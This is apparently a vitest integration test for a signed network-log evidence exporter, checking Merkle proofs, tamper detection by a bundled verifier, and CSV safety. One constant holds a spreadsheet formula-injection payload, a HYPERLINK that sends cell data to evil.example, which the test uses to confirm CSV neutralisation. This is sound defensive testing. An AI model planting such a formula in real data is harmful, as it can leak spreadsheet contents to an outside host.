// The evidence package as a recipient gets it: made by the real CLI
// (`klaiwatch archive export`) from an archive holding real parsed log lines
// (one segment sealed before Merkle roots were kept, one with a root, one
// record still in the write-ahead log), unpacked with tar, and checked by the
// shipped verifier run with node and the public key alone. Then one byte of
// each kind of file is changed, and the verifier must name that file.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, renameSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { createHash, createPrivateKey, generateKeyPairSync, sign } from 'node:crypto';
import { Archive, sha256File, writeSegment } from '../../archive/archive.ts';
import { Wal } from '../../archive/wal.ts';
import { parseLogLine } from '../../archive/parsers.ts';
import { loadPrivateKey, rawPublicKey, type SegmentEntry } from '../../archive/manifest.ts';
import { LAYOUT } from '../../archive/layout.ts';
import type { TrafficRecord } from '../../archive/record.ts';
import { PROJECT } from '../../sim/area.ts';
import { tempDir } from '../helpers/peers.ts';

const exec = promisify(execFile);
const dir = tempDir('evidence');
const cfg = join(dir.path, 'area.yaml');
const archiveDir = join(dir.path, 'archive');
const unpacked = join(dir.path, 'unpacked');
let publicKey: string;
let pem: string;
const at = (local: string) => Date.parse(`${local}:00+07:00`);
const FORMULA_USER = '=HYPERLINK("http://evil.example/?"&A1,"click")';

async function run(file: string, args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const r = await exec(file, args, { maxBuffer: 16 << 20 });
    return { code: 0, ...r };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

const cli = (...args: string[]) => run(process.execPath, [join(PROJECT, 'bin', 'klaiwatch.ts'), 'archive', ...args, '--config', cfg]);
/** The shipped verifier, run by plain node (the system's Node 20 too when there is one: it must run on Node 18 and later). */
const verifier = (folder: string, key = publicKey, node = process.execPath) => run(node, [join(folder, 'verify.mjs'), '--public-key', key, folder]);

function line(text: string, exporter: string, recvMs: number): TrafficRecord {
  return parseLogLine(text, { exporter, recvMs, utcOffsetMinutes: 420 });
}

/** A fresh copy of the unpacked package to damage. */
function copyPackage(name: string): string {
  const to = join(dir.path, `tampered-${name}`);
  cpSync(unpacked, to, { recursive: true });
  return to;
}

/** Changes one byte of a file: the first `from` (one character) at or after `near` becomes `to`. */
function changeByte(file: string, near: string, from: string, to: string): void {
  const b = readFileSync(file);
  const start = b.indexOf(near);
  expect(start, `${near} in ${file}`).toBeGreaterThanOrEqual(0);
  const i = b.indexOf(from, start);
  b[i] = to.charCodeAt(0);
  writeFileSync(file, b);
}

/** Changes one hex digit of the first hash after `near`. */
function flipHex(file: string, near: string): void {
  const b = readFileSync(file);
  const i = b.indexOf('"', b.indexOf(near) + near.length) + 1;
  b[i] = b[i] === 0x30 ? 0x31 : 0x30;
  writeFileSync(file, b);
}

beforeAll(async () => {
  pem = generateKeyPairSync('ed25519').privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
  writeFileSync(join(dir.path, 'signing.pem'), pem);
  publicKey = rawPublicKey(createPrivateKey(pem));
  writeFileSync(join(dir.path, 'schools.yaml'), ['schools:', '  - code: "1036090101"', '    name_th: โรงเรียนบ้านหนองบัวแดง', '    devices:', '      - { id: r, kind: router, address: 127.0.0.2, profile: icmp-only }', ''].join('\n'));
  writeFileSync(cfg, ['area: { code: t, name_th: สพป.ทดสอบ }', 'inventory: schools.yaml', 'influx: { url: "http://127.0.0.1:9" }', 'traffic: { dir: archive, signing_key: signing.pem }', ''].join('\n'));
  const a = await Archive.open({ dir: archiveDir, key: loadPrivateKey(pem), retentionDays: 90, fsyncIntervalMs: 5, sealInProcess: true });
  const june = (hhmm: string) => at(`2026-06-03T${hhmm}`);

  // A segment sealed before Merkle roots were kept: written as a seal writes
  // it, its entry without merkle_root (as entries of that time are).
  const oldWal = await Wal.open(join(dir.path, 'old-wal'), 5);
  await oldWal.append([
    line('<30>Jun  3 07:00:00 dhcp dhcpd[10]: DHCPACK on 10.23.4.5 to aa:bb:cc:dd:ee:01 (ห้องคอม-01) via eth0', '127.0.0.7', june('07:00')),
    line('<30>Jun  3 07:10:00 dhcp dhcpd[10]: DHCPACK on 10.23.4.7 to aa:bb:cc:dd:ee:07 (ห้องคอม-07) via eth0', '127.0.0.7', june('07:10')),
  ]);
  const oldFile = await oldWal.rotate('old');
  await oldWal.close();
  const seq = a.manifest.nextSegmentNumber();
  const w = (await writeSegment(oldFile, a.segmentDir, seq))!;
  renameSync(join(a.segmentDir, `.tmp-${w.name}`), join(a.segmentDir, w.name));
  await a.manifest.append<SegmentEntry>({
    type: 'segment',
    by: 'klaiwatch',
    file: w.name,
    sha256: await sha256File(join(a.segmentDir, w.name)),
    bytes: statSync(join(a.segmentDir, w.name)).size,
    rows: w.rows,
    first_recv: w.first,
    last_recv: w.last,
    clock_offset_ms: null,
    exporters: w.exporters,
    wal: 'old.wal',
    wal_inode: 0,
    layout: LAYOUT,
  });

  // A school morning, sealed with its root: a hotspot user name and a URL that are formulas.
  await a.append([
    line('<30>Jun  3 08:00:05 dhcp dhcpd[10]: DHCPACK on 10.23.4.5 to aa:bb:cc:dd:ee:01 (ห้องคอม-01) via eth0', '127.0.0.7', june('08:00')),
    line('2026-06-03T09:41:07+07:00 gw firewall,info forward: in:lan out:pppoe-out1, src-mac aa:bb:cc:dd:ee:01, proto TCP (ACK,PSH), 10.23.4.5:51000->47.241.18.42:443, NAT (10.23.4.5:51000->125.25.69.110:51000)->47.241.18.42:443, len 1400', '127.0.0.5', june('09:41')),
    line(`hotspot,account,info,debug hs: ${FORMULA_USER} (10.23.4.5): logged in`, '127.0.0.5', june('09:00')),
    line('<30>Jun  3 12:00:00 dhcp dhcpd[10]: DHCPRELEASE of 10.23.4.5 from aa:bb:cc:dd:ee:01 via eth0', '127.0.0.7', june('12:00')),
  ]);
  const sealed = await a.seal();
  expect(sealed?.merkle_root).toMatch(/^[0-9a-f]{64}$/);
  // And one record still in the write-ahead log.
  await a.append([line('<30>Jun  3 14:00:00 dhcp dhcpd[10]: DHCPACK on 10.23.4.5 to aa:bb:cc:dd:ee:09 via eth0', '127.0.0.7', june('14:00'))]);
  await a.close();

  const out = join(dir.path, 'evidence.tar');
  const r = await cli('export', '--ip', '10.23.4.5', '--from', '2026-06-03', '--to', '2026-06-04', '--reference', 'หนังสือ สภ.ภูเขียว ที่ 0002/2569', '--out', out, '--as', 'ผู้ตรวจสอบ ก.');
  expect(r.stderr).not.toMatch(/\n\s+at /); // no stack trace
  expect(r.code, r.stderr).toBe(0);
  mkdirSync(unpacked);
  await exec('tar', ['-xf', out, '-C', unpacked]);
}, 120_000);

afterAll(() => dir.remove());

describe('the evidence package checks with the public key alone', () => {
  it('holds the signed statement, the rows, their proofs, the chain, the old segment and the verifier', () => {
    const names = readdirSync(unpacked).sort();
    expect(names).toEqual(['README-en.md', 'README-th.md', 'manifest.jsonl', 'proofs.json', 'rows.csv', 'rows.json', 'segments', 'statement.json', 'statement.sig', 'verify.mjs']);
    const st = JSON.parse(readFileSync(join(unpacked, 'statement.json'), 'utf8'));
    // Every file but the statement and its signature, with its hash.
    const listed = Object.keys(st.files);
    expect(listed.filter((n) => !n.startsWith('segments/')).sort()).toEqual(['README-en.md', 'README-th.md', 'manifest.jsonl', 'proofs.json', 'rows.csv', 'rows.json', 'verify.mjs']);
    expect(listed.filter((n) => n.startsWith('segments/'))).toEqual([expect.stringMatching(/^segments\/seg-000001-.*\.parquet$/)]);
    for (const [n, f] of Object.entries(st.files as Record<string, { sha256: string }>)) expect(createHash('sha256').update(readFileSync(join(unpacked, n))).digest('hex')).toBe(f.sha256);
    expect(st.rows).toBe(6);
    expect(st.rows_proven_by_merkle_proof).toBe(4);
    expect(st.rows_proven_by_whole_segment_file).toBe(1); // the old segment's other row is 10.23.4.7's
    expect(st.rows_from_unsealed_log).toBe(1);
    // The manifest entries run contiguously from the old segment's entry to the head.
    const seqs = readFileSync(join(unpacked, 'manifest.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l).seq);
    expect(seqs).toEqual(Array.from({ length: seqs.length }, (_, i) => st.chain.from_seq + i));
    expect(seqs.at(-1)).toBe(st.chain.head.seq);
  });

  it('the shipped verifier, run with node and the key, says OK', async () => {
    const r = await verifier(unpacked);
    expect(r.stdout).not.toMatch(/FAIL/);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(new RegExp(`^OK: the statement is signed with key ${publicKey.replace(/[+/]/g, '\\$&')}; 8 files match it; 6 rows: 4 proven in sealed segments by Merkle proofs, 1 in whole segment files included .*, 1 from the unsealed log`, 'm'));
    // The system's older Node (the verifier promises Node 18 and later).
    if (existsSync('/usr/bin/node')) {
      const old = await verifier(unpacked, publicKey, '/usr/bin/node');
      expect(old.stdout + old.stderr).toMatch(/^OK: /m);
      expect(old.code).toBe(0);
    }
  });

  it('a key other than the archive\'s is refused', async () => {
    const other = rawPublicKey(generateKeyPairSync('ed25519').privateKey);
    const r = await verifier(unpacked, other);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/FAIL statement\.json: its signature \(statement\.sig\) is not valid for the public key given/);
    expect(r.stdout).toMatch(/FAIL manifest\.jsonl line 1 \(entry \d+, segment\): its signature is not valid for the public key given/);
  });

  const damage: [string, (d: string) => void, RegExp][] = [
    ['statement.json', (d) => changeByte(join(d, 'statement.json'), '"reference"', '0002', '9'), /^FAIL statement\.json: its signature \(statement\.sig\) is not valid/m],
    ['rows.json (a MAC)', (d) => changeByte(join(d, 'rows.json'), '"mac": "aa:bb:cc:dd:ee:01"', '1"', '2'), /^FAIL rows\.json: altered: its SHA-256 is/m],
    ['rows.csv', (d) => changeByte(join(d, 'rows.csv'), 'aa:bb:cc:dd:ee:01', '1', '2'), /^FAIL rows\.csv: altered/m],
    ['proofs.json (a proof)', (d) => flipHex(join(d, 'proofs.json'), '"path": ['), /^FAIL proofs\.json: altered/m],
    ['manifest.jsonl (an entry)', (d) => changeByte(join(d, 'manifest.jsonl'), '"rows":', ':', ' '), /^FAIL manifest\.jsonl: altered/m],
    ['a segment file', (d) => {
      const seg = join(d, 'segments', readdirSync(join(d, 'segments'))[0]!);
      const b = readFileSync(seg);
      b[100] = b[100]! ^ 1;
      writeFileSync(seg, b);
    }, /^FAIL segments\/seg-[^:]+\.parquet: altered/m],
    ['README-en.md', (d) => changeByte(join(d, 'README-en.md'), 'public key', 'k', 'K'), /^FAIL README-en\.md: altered/m],
    ['README-th.md', (d) => changeByte(join(d, 'README-th.md'), 'Node.js', 'N', 'n'), /^FAIL README-th\.md: altered/m],
    ['verify.mjs', (d) => changeByte(join(d, 'verify.mjs'), 'Checks a klaiwatch', 'C', 'c'), /^FAIL verify\.mjs: altered/m],
  ];
  for (const [what, change, named] of damage) {
    it(`one byte changed in ${what}: the verifier names the file and fails`, async () => {
      const d = copyPackage(what.replace(/\W+/g, '-'));
      change(d);
      const r = await verifier(d);
      expect(r.stdout).toMatch(named);
      expect(r.stdout).toMatch(/^NOT VERIFIED: /m);
      expect(r.code).toBe(1);
    });
  }

  it('a row changed by the key holder, with every hash and the statement redone, still fails its Merkle proof', async () => {
    const d = copyPackage('resigned');
    const rows = JSON.parse(readFileSync(join(d, 'rows.json'), 'utf8'));
    const proofs = JSON.parse(readFileSync(join(d, 'proofs.json'), 'utf8'));
    const i = proofs.rows.findIndex((p: { proof: string }) => p.proof === 'merkle');
    rows[i].mac = 'aa:bb:cc:dd:ee:99';
    // The new row's hash, as the statement defines it (the same code the archive uses).
    const { rowHash } = await import('../../archive/merkle.ts');
    proofs.rows[i].row_hash = rowHash(rows[i]).toString('hex');
    writeFileSync(join(d, 'rows.json'), JSON.stringify(rows, null, 1) + '\n');
    writeFileSync(join(d, 'proofs.json'), JSON.stringify(proofs, null, 1) + '\n');
    const st = JSON.parse(readFileSync(join(d, 'statement.json'), 'utf8'));
    for (const n of ['rows.json', 'proofs.json']) st.files[n].sha256 = createHash('sha256').update(readFileSync(join(d, n))).digest('hex');
    const stBuf = Buffer.from(JSON.stringify(st, null, 2) + '\n');
    writeFileSync(join(d, 'statement.json'), stBuf);
    writeFileSync(join(d, 'statement.sig'), sign(null, createHash('sha256').update(stBuf).digest(), createPrivateKey(pem)).toString('base64') + '\n');
    const r = await verifier(d);
    expect(r.stdout).toMatch(new RegExp(`^FAIL proofs\\.json row ${i}: the inclusion proof does not lead to the Merkle root of seg-`, 'm'));
    expect(r.code).toBe(1);
  });
});

describe('safe CSV', () => {
  it('a formula from the network is neutralised in rows.csv and byte-exact in rows.json; the statement says so', () => {
    const csv = readFileSync(join(unpacked, 'rows.csv'), 'utf8');
    const json = JSON.parse(readFileSync(join(unpacked, 'rows.json'), 'utf8')) as TrafficRecord[];
    const row = json.find((r) => r.user !== null && r.user.startsWith('='));
    expect(row?.user).toBe(FORMULA_USER);
    // In the CSV: quoted (it holds quotes and a comma) and prefixed with ': no cell begins with =.
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(csv).not.toMatch(/(^|,)"?[=+@\t]/m);
    const st = JSON.parse(readFileSync(join(unpacked, 'statement.json'), 'utf8'));
    expect(st.csv).toMatch(/begins with =, \+, -, @, TAB or CR has a single quote/);
    expect(st.csv).toMatch(/rows\.json holds every value exactly/);
  });
});

describe('rows not yet sealed', () => {
  it('are marked in the proofs and said in the statement', () => {
    const st = JSON.parse(readFileSync(join(unpacked, 'statement.json'), 'utf8'));
    const proofs = JSON.parse(readFileSync(join(unpacked, 'proofs.json'), 'utf8')).rows as { proof: string; row: number }[];
    const rows = JSON.parse(readFileSync(join(unpacked, 'rows.json'), 'utf8')) as TrafficRecord[];
    const unsealed = proofs.filter((p) => p.proof === 'unsealed');
    expect(unsealed).toHaveLength(1);
    expect(rows[unsealed[0]!.row]!.mac).toBe('aa:bb:cc:dd:ee:09');
    expect(st.unsealed_rows).toMatch(/^1 rows were still in the write-ahead log .* nothing signed vouches for them yet; they carry no proof/);
  });
});
